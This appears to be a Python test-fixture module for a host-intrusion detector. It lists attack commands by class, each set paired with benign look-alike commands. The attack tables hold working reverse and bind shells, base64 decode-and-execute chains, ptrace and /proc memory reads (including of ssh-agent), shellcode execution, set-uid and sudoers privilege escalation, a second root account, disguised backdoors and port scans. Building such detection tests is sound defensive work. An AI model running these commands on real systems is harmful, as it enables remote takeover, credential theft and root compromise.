"""Attacks of our own, several ways for each class, and ordinary work that resembles them.

The simulations of the corpus are few for some classes, and what is found of them alone could be fitted to them.
"""

# ruff: noqa: E501, S108 - code of attacks is quoted as it is run, in places for temporary files

from collections.abc import Iterator, Mapping
from typing import Final, NamedTuple

import msgspec

from tests.detection.container import Work


class Variant(msgspec.Struct, frozen=True):
    """A piece of work and the class that it belongs to, or resembles."""

    kind: str
    work: Work


class _Otherwise(NamedTuple):
    """Code that is run in another way than the rest of its table."""

    code: str
    how: dict[str, object]


_Table = Mapping[str, str | _Otherwise]
"""Code by the name of the work."""


def _but(code: str, **how: object) -> _Otherwise:
    return _Otherwise(code, how)


def _several(kind: str, table: _Table, **how: object) -> Iterator[Variant]:
    """Yield the work of a table; it is run in one way, except for what says otherwise."""
    for name, row in table.items():
        code, otherwise = (row, {}) if isinstance(row, str) else row
        yield Variant(kind, Work(f"{kind}: {name}", code, **how | otherwise))  # type: ignore[arg-type]


_REMOTE = "reverse shells"
_DECODE = "decode-and-execute"
_MEMORY = "memory and ptrace"
_RIGHTS = "privilege escalation"
_RAW = "raw sockets"
_SCAN = "scans"

_PAYLOAD = "IyEvYmluL3NoCmlkCnVuYW1lIC1hCg=="
"""`id` and `uname -a` as a script."""

_VICTIM = "sh -c 'sleep 3; :' & victim=$!; sleep 0.2; "
_INJECT = (
    "import ctypes, os, sys, time; libc = ctypes.CDLL(None, use_errno=True); libc.ptrace.restype = ctypes.c_long; "
    "libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]; "
    "pid = int(sys.argv[1]); libc.ptrace(16, pid, None, None); os.waitpid(pid, 0x40000000); "
    "where = int(next(l for l in open(f'/proc/{pid}/maps') if ' rw-p ' in l).split('-')[0], 16); "
    "libc.ptrace(5, pid, where, 7); libc.ptrace(17, pid, None, None)"
)
_WRITE = (
    "import sys; pid = sys.argv[1]; "
    "where = int(next(l for l in open(f'/proc/{pid}/maps') if ' rw-p ' in l).split('-')[0], 16); "
    "f = open(f'/proc/{pid}/mem', 'r+b', buffering=0); f.seek(where); f.write(f.read(1) or b'x')"
)
_READ = (
    "import sys; pid = sys.argv[1]\n"
    "mem = open(f'/proc/{pid}/mem', 'rb')\n"
    "for line in open(f'/proc/{pid}/maps'):\n"
    "    if ' rw-p ' in line:\n"
    "        begin, end = (int(part, 16) for part in line.split()[0].split('-')); mem.seek(begin); mem.read(end - begin)\n"
)
_MEMFD = (
    "import os; fd = os.memfd_create('x'); os.write(fd, open('/bin/true', 'rb').read()); "
    "os.execv(f'/proc/self/fd/{fd}', ['kworker'])"
)
_SHELLCODE = (
    "import ctypes, mmap; area = mmap.mmap(-1, 4096, prot=7); area.write(b'\\x31\\xff\\xb8\\x3c\\0\\0\\0\\x0f\\x05'); "
    "ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(area)))()"
)

_REVERSE_SHELLS: _Table = {
    "bash device": _but("bash -i >& /dev/tcp/203.0.113.9/12345 0>&1", executor="bash"),
    "descriptor": _but(
        "exec 5<>/dev/tcp/203.0.113.9/12345; cat <&5 | while read line; do $line 2>&5 >&5; done", executor="bash"
    ),
    "named pipe": "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 12345 > /tmp/f",
    "openssl": "mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:12345 > /tmp/s",
    "python dup2": 'python3 -c \'import os,socket,subprocess;s=socket.create_connection(("203.0.113.9",12345));[os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call(["/bin/sh","-i"])\'',
    "python script file": "cat > /tmp/agent.py <<'END'\nimport socket, subprocess\ns = socket.create_connection(('203.0.113.9', 12345))\nsubprocess.call(['/bin/sh'], stdin=s, stdout=s, stderr=s)\nEND\npython3 /tmp/agent.py",
    "python terminal": 'python3 -c \'import os,pty,socket;s=socket.create_connection(("203.0.113.9",12345));[os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn("/bin/sh")\'',
    "perl": "perl -MIO::Socket -e '$c=new IO::Socket::INET(PeerAddr,\"203.0.113.9:12345\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
    "perl exec": 'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(12345,inet_aton("203.0.113.9")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");\'',
    "socat bind": _but("socat TCP-LISTEN:12345,reuseaddr EXEC:bash,pty,stderr,setsid", peer="call"),
    "python bind": _but(
        'python3 -c \'import os,socket;s=socket.create_server(("",12345));c,_=s.accept();[os.dup2(c.fileno(),n) for n in (0,1,2)];os.execl("/bin/bash","bash")\'',
        peer="call",
    ),
    "renamed shell": _but(
        "cp /bin/bash /tmp/kworker; exec 3<>/dev/tcp/203.0.113.9/12345; /tmp/kworker -i <&3 >&3 2>&3", executor="bash"
    ),
}

_DECODE_AND_EXECUTE: _Table = {
    "here-string": _but(f"base64 -d <<< {_PAYLOAD} | sh", executor="bash"),
    "evaluated": _but(f'eval "$(echo {_PAYLOAD} | base64 -d)"', typed=False),
    "substituted": _but(f'bash -c "$(echo {_PAYLOAD} | base64 -d)"', executor="bash"),
    "into a file": f"echo {_PAYLOAD} | base64 -d > /tmp/.x; chmod +x /tmp/.x; /tmp/.x",
    "into a file for a shell": f"echo {_PAYLOAD} | base64 -d > /tmp/x.sh; sh /tmp/x.sh",
    "compressed": "printf 'id\\nuname -a\\n' | gzip | base64 > /tmp/p; base64 -d /tmp/p | gunzip | bash",
    "hexadecimal": "printf '69640a' | xxd -r -p | sh",
    "openssl": f"echo {_PAYLOAD} | openssl base64 -d -A | bash",
    "encrypted": "printf 'id\\n' | openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -a > /tmp/e; openssl enc -d -aes-256-cbc -pbkdf2 -pass pass:x -a -in /tmp/e | sh",
    "python": "python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"",
    "python to a shell": f"python3 -c \"import base64;print(base64.b64decode('{_PAYLOAD}').decode())\" | sh",
    "python to the system": f"python3 -c \"import os,base64;os.system(base64.b64decode('{_PAYLOAD}').decode())\"",
    "perl": f"perl -MMIME::Base64 -e 'system(decode_base64(\"{_PAYLOAD}\"))'",
    "rotated": "echo 'vq; hanzr -n' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
    "reversed": "echo 'a- emanu ;di' | rev | bash",
    "protected archive": "cd /tmp; printf 'id\\n' > run.sh; zip -q -P infected a.zip run.sh; rm run.sh; unzip -q -P infected a.zip; sh run.sh",
    "archive in a script": "cd /tmp; mkdir d; printf '#!/bin/sh\\nid\\n' > d/run; chmod +x d/run; tar czf - d | base64 > a; rm -r d; base64 -d a | tar xz; d/run",
}

_MEMORY_AND_PTRACE: _Table = {
    "dd": _VICTIM
    + "area=$(grep -m1 'rw-p' /proc/$victim/maps | cut -d- -f1); dd if=/proc/$victim/mem of=/tmp/dump bs=4096 skip=$((0x$area/4096)) count=1",
    "python reads": _VICTIM + f'cat > /tmp/r.py <<"END"\n{_READ}END\npython3 /tmp/r.py $victim',
    "python pokes": _VICTIM + f'python3 -c "{_INJECT}" $victim',
    "python writes": _VICTIM + f'python3 -c "{_WRITE}" $victim',
    "gdb injects": _VICTIM + "gdb -p $victim -batch -ex 'call (int)getpid()'",
    "gcore of a keeper": "ssh-agent -D -a /tmp/agent & victim=$!; sleep 0.2; gcore -o /tmp/core $victim",
    "memory file": _but(f'python3 -c "{_MEMFD}"', elevated=False),
    "machine code in python": _but(f'python3 -c "{_SHELLCODE}"', elevated=False),
    "memory of an agent": f"ssh-agent -D -a /tmp/agent & victim=$!; sleep 0.2; cat > /tmp/r.py <<'END'\n{_READ}END\npython3 /tmp/r.py $victim",
    "strings of memory": _VICTIM + "strings /proc/$victim/mem | head -1; grep -a PASS /proc/$victim/mem",
}

_PRIVILEGE_ESCALATION: _Table = {
    "set-uid shell": "cp /bin/bash /tmp/bash; chmod 4755 /tmp/bash",
    "set-uid shell used": "cp /bin/bash /tmp/.b; chmod u+s /tmp/.b; setpriv --reuid 4242 --clear-groups /tmp/.b -p -c id",
    "set-uid copy elsewhere": "install -m 4755 /bin/dash /usr/local/bin/helper; setpriv --reuid 4242 --clear-groups /usr/local/bin/helper -p -c id",
    "capable python": "cp /usr/bin/python3 /tmp/py; setcap cap_setuid+ep /tmp/py; setpriv --reuid 4242 --clear-groups /tmp/py -c 'import os; os.setuid(0); os.system(\"id\")'",
    "capability to a tool": "setcap cap_dac_override,cap_setuid=eip /usr/bin/perl",
    "sudoers line": _but("echo 'alice ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", typed=False),
    "sudoers by tee": "echo 'alice ALL=(ALL) NOPASSWD: ALL' | tee /etc/sudoers.d/alice",
    "find through sudo": "sudo find /etc/hosts -exec /bin/sh -p \\; -quit",
    "vim through sudo": "sudo vim -c ':!/bin/sh' -c ':q'",
    "tar through sudo": "sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh",
    "python through sudo": "sudo python3 -c 'import os; os.system(\"/bin/sh\")'",
    "second root": "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash toor",
    "second root in the file": _but("echo 'toor::0:0:root:/root:/bin/bash' >> /etc/passwd", typed=False),
    "loader": _but("echo /tmp/x.so > /etc/ld.so.preload", typed=False),
}

_RAW_SOCKETS: _Table = {
    "python sniffs": "cat > /tmp/sniff.py <<'END'\nimport socket\ns = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3)); s.settimeout(0.3)\ntry: s.recv(100)\nexcept OSError: pass\nEND\npython3 /tmp/sniff.py",
    "python one-liner": "python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768)'",
    "python raw IP": 'python3 -c \'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_RAW, 255); s.sendto(b"E" + bytes(39), ("203.0.113.9", 0))\'',
    "python raw TCP": "python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_RAW, 6)'",
    "perl raw ICMP shell": "perl -e 'use Socket; socket(S, PF_INET, SOCK_RAW, 1); sleep 1'",
    "dropped backdoor": "/tmp/t1040_linux_pcapdemo -a -f -t 1",
    "hidden backdoor": "mkdir -p /var/lib/.cache; cp /tmp/t1040_linux_pcapdemo /var/lib/.cache/udevd; /var/lib/.cache/udevd -4 -p 1 -t 1",
    "backdoor as a library": "cp /tmp/t1040_linux_pcapdemo /usr/local/sbin/netupdate; /usr/local/sbin/netupdate -a -t 1",
}

_SCANS: _Table = {
    "nmap connects": "nmap -Pn -sT -p 1-2000 203.0.113.9",
    "nmap half open": _but("nmap -Pn -sS -p- 203.0.113.9", elevated=True),
    "nmap fewer": _but("nmap -Pn -F 203.0.113.9", elevated=True),
    "nmap slow": "nmap -Pn -sT -T2 --max-rate 10 -p 20-60 203.0.113.9",
    "nmap UDP": _but("nmap -Pn -sU -p 1-100 --max-retries 0 --host-timeout 5s 203.0.113.9", elevated=True),
    "nc": "nc -z -v -w 1 203.0.113.9 1-300",
    "bash": _but("for port in $(seq 1 120); do (echo > /dev/tcp/203.0.113.9/$port) 2>/dev/null; done", executor="bash"),
    "python": "python3 -c 'import socket\nfor p in range(1, 400):\n s=socket.socket(); s.settimeout(.2); s.connect_ex((\"203.0.113.9\", p)); s.close()'",
    "many hosts": "python3 -c 'import socket\nfor h in range(1, 120):\n s=socket.socket(); s.settimeout(.05); s.connect_ex((\"203.0.113.%d\" % h, 22)); s.close()'",
    "ping": _but("for i in $(seq 1 60); do ping -c 1 -W 1 203.0.113.$i & done; wait", elevated=True),
    "hping": _but("hping3 -S -p ++1 -c 60 -i u1000 203.0.113.9", elevated=True),
    "masscan": _but(
        "masscan --adapter lo --adapter-ip 203.0.113.9 --router-mac 00-00-00-00-00-00 -p1-500 --rate 1000 --wait 0 203.0.113.9",
        elevated=True,
    ),
    "curl of ports": "for port in 21 22 23 25 80 110 143 443 445 993 1433 3306 3389 5432 5900 6379 8080 8443 9200 27017; do curl -s -m 1 http://203.0.113.9:$port; done",
}

_LIKE_REVERSE_SHELLS: _Table = {
    "a port is asked": "timeout 1 bash -c '</dev/tcp/203.0.113.9/12345' && echo open",
    "a client": "python3 -c 'import socket; s=socket.create_connection((\"203.0.113.9\",12345)); print(s.recv(10))'",
    "a file over the network": "echo hello | nc -N -w 1 203.0.113.9 12345",
}

_LIKE_DECODE_AND_EXECUTE: _Table = {
    "decode to look": f"echo {_PAYLOAD} | base64 -d; echo {_PAYLOAD} | base64 -d > /tmp/decoded; cat /tmp/decoded",
    "decode a secret": 'kubectl_secret=$(echo c2VjcmV0 | base64 -d); test "$kubectl_secret" = secret',
    "an archive": "mkdir /tmp/a; cd /tmp/a; printf '#!/bin/sh\\ntrue\\n' > configure; chmod +x configure; tar czf ../a.tgz .; mkdir ../b; cd ../b; tar xzf ../a.tgz; ./configure",
    "an archive that is unzipped": "cd /tmp; printf 'print(1)\\n' > setup.py; zip -q a.zip setup.py; mkdir u; unzip -q a.zip -d u; python3 u/setup.py",
    "a certificate": "openssl req -x509 -newkey rsa:2048 -nodes -keyout /tmp/k -out /tmp/c -days 1 -subj /CN=x; openssl x509 -in /tmp/c -text | head -3; openssl base64 -d -in /tmp/c | wc -c",
    "a dump into a database": "printf 'select 1;' | gzip > /tmp/d.gz; zcat /tmp/d.gz | cat",
}

_LIKE_MEMORY_AND_PTRACE: _Table = {
    "a debugger with its program": "gdb -batch -ex run -ex bt /bin/true",
    "a tracer with its program": "strace -f -o /tmp/t ls /",
    "own memory map": "cat /proc/self/maps; grep -c . /proc/$$/status",
    "a foreign function": "python3 -c 'import ctypes; ctypes.CDLL(None).getpid()'",
    "a compiler at run time": "node -e 'let s=0; for (let i=0;i<1e7;i++) s+=i; console.log(s)'",
}

_LIKE_PRIVILEGE_ESCALATION: _Table = {
    "sudo for a service": "sudo ls /root; sudo id; sudo -l; sudo cat /etc/hosts",
    "modes of a program": "install -m 755 /bin/true /usr/local/bin/tool; chmod 644 /etc/hosts; chown root:root /usr/local/bin/tool",
    "a server on a low port": "cp /usr/bin/node /usr/local/bin/web; setcap cap_net_bind_service=+ep /usr/local/bin/web; getcap /usr/local/bin/web",
    "a system account": "useradd --system --home-dir /var/lib/app --shell /usr/sbin/nologin app; usermod -aG adm app; id app",
    "sudoers are checked": "visudo -c; ls -l /etc/sudoers",
    "a set-gid folder": "mkdir -p /srv/team; chgrp adm /srv/team; chmod 2775 /srv/team; chmod g+s /srv/team",
}

_LIKE_RAW_SOCKETS: _Table = {
    "ping": "ping -c 2 -i 0.2 127.0.0.1; ping -c 1 ::1",
    "a capture": "timeout 1 tcpdump -i lo -c 2 -nn",
    "interfaces": "ip addr; ip route; ss -s; arp -a",
}

_LIKE_SCANS: _Table = {
    "services are asked": "for port in 22 80 443; do nc -z -w 1 203.0.113.9 $port; done",
    "a page that is not there": "curl -s -m 1 http://203.0.113.9:8080/health || true; curl -s -m 1 http://203.0.113.9:9090/-/ready || true",
    "a wait for a server": _but(
        "for i in 1 2 3 4 5 6 7 8; do (echo > /dev/tcp/203.0.113.9/5432) 2>/dev/null && break; sleep 0.1; done",
        executor="bash",
    ),
}

VARIANTS: Final = [
    *_several(_REMOTE, _REVERSE_SHELLS, peer="listen", typed=True),
    *_several(_DECODE, _DECODE_AND_EXECUTE, typed=True),
    *_several(_MEMORY, _MEMORY_AND_PTRACE, typed=True, elevated=True),
    *_several(_RIGHTS, _PRIVILEGE_ESCALATION, typed=True, elevated=True),
    *_several(_RAW, _RAW_SOCKETS, typed=True, elevated=True),
    *_several(_SCAN, _SCANS, typed=True),
]

NEIGHBOURS: Final = [
    *_several(_REMOTE, _LIKE_REVERSE_SHELLS, peer="listen", typed=True),
    *_several(_DECODE, _LIKE_DECODE_AND_EXECUTE, typed=True),
    *_several(_MEMORY, _LIKE_MEMORY_AND_PTRACE, typed=True),
    *_several(_RIGHTS, _LIKE_PRIVILEGE_ESCALATION, typed=True, elevated=True),
    *_several(_RAW, _LIKE_RAW_SOCKETS, typed=True, elevated=True),
    *_several(_SCAN, _LIKE_SCANS, typed=True),
]
